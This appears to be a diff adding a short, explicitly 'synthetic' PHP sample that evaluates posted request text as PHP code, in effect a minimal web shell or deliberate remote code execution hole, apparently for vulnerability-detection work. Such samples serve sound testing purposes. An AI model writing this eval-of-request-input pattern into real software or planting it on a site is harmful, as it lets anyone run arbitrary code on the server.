@@ -1,0 +1,4 @@
+<?php
+// synthetic: request text wrapped in PHP tags and evaluated through interpolation
+$src = trim($_POST['src']);
+eval("?" . ">$src<?php ");
